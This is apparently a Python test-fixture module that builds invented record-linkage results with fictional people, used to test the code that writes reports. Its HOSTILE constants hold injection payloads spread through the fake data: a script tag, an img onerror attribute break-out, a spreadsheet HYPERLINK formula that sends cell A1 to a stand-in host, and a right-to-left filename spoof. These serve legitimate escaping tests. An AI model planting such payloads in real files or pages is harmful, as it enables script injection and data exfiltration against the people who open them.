"""Results of invented runs, for tests of all that writes them. No person here is real."""

from __future__ import annotations

from dataclasses import replace

from tieline.linking.result import (
    AmbiguousGroup,
    Evidence,
    FieldSummary,
    FileSummary,
    LinkResult,
    NotUnderstood,
    Pair,
    Rejected,
    Side,
    TruthScore,
)

SCRIPT = "<script>alert('x')</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
RIGHT_TO_LEFT = "abc\u202egnp.exe\u202c"
NUL = "nul\x00inside\x07"
LONG = "x" * 10_240
EMOJI = "👩\u200d🚒 José 李娜"
ARABIC = "مُحَمَّد الأحمد"
SURROGATE = "half \ud83d"
HOSTILE = (SCRIPT, ATTRIBUTE, FORMULA, RIGHT_TO_LEFT, NUL, LONG, EMOJI, ARABIC, SURROGATE)

_GIVEN = ("Alma", "Bruno", "Celia", "Dario", "Elena", "Fermín", "Greta", "Hugo", "Inés", "Jonas")
_SURNAMES = ("Quispe", "Ferreiro", "Lindqvist", "Okonjo", "Varga", "de la Peña", "Novak", "Tamm")
_PLACES = ("Nogales", "Douglas", "Naco", "Ajo", "Yuma", "Lukeville")


def _evidence(at: int) -> tuple[Evidence, ...]:
    given, surname = _GIVEN[at % 10], _SURNAMES[at * 3 % 8]
    year, month, day = 1960 + at * 7 % 45, at * 5 % 12 + 1, at * 11 % 12 + 1
    born = f"{year}-{month:02}-{day:02}"
    swapped = at % 7 == 3 and month != day
    misspelt = at % 9 == 4
    place = _PLACES[at % 6]
    other = _PLACES[(at + 1) % 6] if at % 11 == 5 else place
    return (
        Evidence("given", given, given.upper(), "the same", 4.0 + at % 10 * 0.137),
        Evidence(
            "surname",
            surname,
            surname[:-1] + "z" if misspelt else surname.upper(),
            "one letter differs" if misspelt else "the same",
            2.914 if misspelt else 6.2 + at % 8 * 0.271,
        ),
        Evidence(
            "birth_date",
            born,
            f"{year}-{day:02}-{month:02}" if swapped else born,
            "day and month swapped" if swapped else "the same",
            3.452 if swapped else 11.249,
        ),
        Evidence("sex", "F" if at % 2 else "M", "F" if at % 2 else "M", "the same", 0.979),
        Evidence(
            "place",
            place,
            other,
            "another place" if other != place else "the same",
            -3.318 if other != place else 2.205,
        ),
        Evidence("phone", "" if at % 3 else f"520 555 01{at % 100:02}", "", "missing", 0.0),
    )


def pair(at: int, *, left: str = "", right: str = "") -> Pair:
    """A pair like those of a real run, the same for the same number."""
    evidence = _evidence(at)
    score = sum(item.weight for item in evidence)
    odds = 2.0 ** (score - 11.6)
    return Pair(
        left or f"A-{1000 + at}", right or f"B-{5000 + at * 3}", score, odds / (1 + odds), evidence
    )


def _near(at: int) -> Pair:
    given = _GIVEN[at % 10]
    evidence = (
        Evidence("given", given, given, "the same", 4.2),
        Evidence("surname", _SURNAMES[at % 8], _SURNAMES[(at + 3) % 8], "another name", -5.107),
        Evidence("birth_date", "1984-02-11", "1984-11-02", "day and month swapped", 3.452),
        Evidence("sex", "M", "F", "another", -4.5),
        Evidence("place", "Ajo", "Ajo", "the same", 2.205),
        Evidence("phone", "", "520 555 0155", "missing", 0.0),
    )
    score = sum(item.weight for item in evidence)
    return Pair(f"A-{9000 + at}", f"B-{9500 + at}", score, 0.0006, evidence)


def _hostile_pair(at: int, text: str) -> Pair:
    evidence = (
        Evidence("given", text, text, "the same", 7.25),
        Evidence("surname", text, f" {text} ", "spaces differ", -1.05),
        Evidence("birth_date", "1990-03-12", "", "missing", 0.0),
    )
    return Pair(f"A-{text[:12]}-{at}", f"B-{at}", 6.2, 0.71 + at / 100, evidence)


def _twins(number: int, left: tuple[str, ...], right: tuple[str, ...]) -> AmbiguousGroup:
    pairs = tuple(pair(60 + number, left=one, right=other) for one in left for other in right)
    return AmbiguousGroup(
        number,
        left,
        right,
        pairs,
        f"{len(left)} left and {len(right)} right rows share given name, surname, birth date and "
        "sex, and no other column tells them apart",
    )


def _fields() -> tuple[FieldSummary, ...]:
    return (
        FieldSummary(
            "given",
            "FIRST_NAME",
            "GIVEN",
            141,
            120,
            (
                ("the same", 0.912, 0.021, 5.44),
                ("one letter differs", 0.05, 0.004, 3.64),
                ("another name", 0.038, 0.975, -4.68),
            ),
        ),
        FieldSummary(
            "birth_date",
            "DOB",
            "BIRTH",
            139,
            118,
            (
                ("the same", 0.951, 0.0004, 11.22),
                ("day and month swapped", 0.021, 0.0019, 3.47),
                ("another date", 0.028, 0.9977, -5.16),
            ),
        ),
        FieldSummary(
            "sex",
            "SEX",
            "SEX_CD",
            142,
            121,
            (("the same", 0.978, 0.496, 0.98), ("another", 0.022, 0.504, -4.52)),
        ),
        FieldSummary("phone", "PHONE", "TEL", 31, 12, (("the same", 0.3, 0.00001, 14.87),)),
    )


def rich(ordinary: int = 120) -> LinkResult:
    """A bit of everything that a run can find, hostile values among it."""
    links = [pair(at) for at in range(ordinary)]
    links += [_hostile_pair(at, text) for at, text in enumerate(HOSTILE)]
    groups = (
        _twins(1, ("A-201", "A-202"), ("B-301", "B-302")),
        _twins(2, ("A-203",), ("B-303", "B-304", "B-305")),
    )
    unmatched_left = [f"A-{9000 + at}" for at in range(8)] + ["A-9900", "A-9901"]
    unmatched_right = [f"B-{9500 + at}" for at in range(3)] + [SCRIPT]
    near: dict[tuple[Side, str], Pair] = {("left", f"A-{9000 + at}"): _near(at) for at in range(8)}
    near |= {("right", f"B-{9500 + at}"): _near(at) for at in range(3)}
    # These two came near a row that another row fits better, and one that stands in a group.
    near["left", "A-9900"] = replace(_near(1), left="A-9900", right="B-5000")
    near["left", "A-9901"] = replace(_near(2), left="A-9901", right="B-301")
    rejected = (
        Rejected("left", 1_204, "17 columns where the head names 16", f"A-77;{SCRIPT};x;;;"),
        Rejected("left", 1_377, "a NUL stands in the row", f"A-78,{NUL},1990"),
        Rejected("right", 88, "the quotation that opens in column 4 never closes", LONG[:1000]),
    )
    return LinkResult(
        FileSummary("patrol_subjects.csv", 144, 2, "utf-8", ","),
        FileSummary("investigations_subjects.csv", 139, 1, "cp1252", ";"),
        links,
        groups,
        unmatched_left,
        unmatched_right,
        rejected,
        (
            NotUnderstood("left", "birth_date", "00/00/1987", 12, "there is no month 0"),
            NotUnderstood("right", "sex", SCRIPT, 3, "not in the code list “sex”"),
            NotUnderstood("right", "place", FORMULA, 1, "not in the code list “place”"),
        ),
        _fields(),
        (
            "The key “surname, year” was capped: 2 values stand in more than 5,000 rows each.",
            f"The field {SCRIPT} told nothing: it is the same in every row.",
        ),
        -11.6,
        carried={
            ("left", "A-1000"): {"remarks": "scar on left hand", "agent": ATTRIBUTE},
            ("right", "B-5000"): {"remarks": "scar, hand"},
            ("left", "A-201"): {"remarks": "travelled with a sibling"},
        },
        near=near,
        truth=TruthScore("deportable", 131, 125, 1, 5, 125 / 126, 125 / 131, 130 / 131),
        seconds=3.218,
        started="2026-11-22T09:14:00+00:00",
        version="0.1.0",
    )


def empty() -> LinkResult:
    """Two files with a head and no rows."""
    return LinkResult(
        FileSummary("left.csv", 0, 0, "utf-8", ","),
        FileSummary("right.parquet", 0, 0, "", ""),
        (),
        (),
        (),
        (),
        (),
        (),
        (),
        (),
        -1.0,
    )


def huge(links: int = 20_000) -> LinkResult:
    """More of everything than a page can hold, with long and hostile values."""
    result = rich()
    many = [pair(at) for at in range(links)]
    awkward = [_hostile_pair(at, (ATTRIBUTE + NUL) * 400) for at in range(400)]
    groups = [
        _twins(
            number,
            tuple(f"A-{number}-{at}" for at in range(7)),
            tuple(f"B-{number}-{at}" for at in range(7)),
        )
        for number in range(1, 400)
    ]
    left = [f"C-{at}" for at in range(5_000)]
    return replace(
        result,
        left=replace(result.left, rows=links + 400 + 399 * 7 + 5_000),
        links=awkward + many,
        ambiguous=groups,
        unmatched_left=left,
        rejected=[Rejected("left", at, "ragged", "\x00" * 1000) for at in range(2, 2_002)],
        not_understood=[
            NotUnderstood("left", "sex", f"{ATTRIBUTE * 40}{at}", at, "unknown")
            for at in range(900)
        ],
        near={("left", number): replace(_near(at), left=number) for at, number in enumerate(left)},
    )
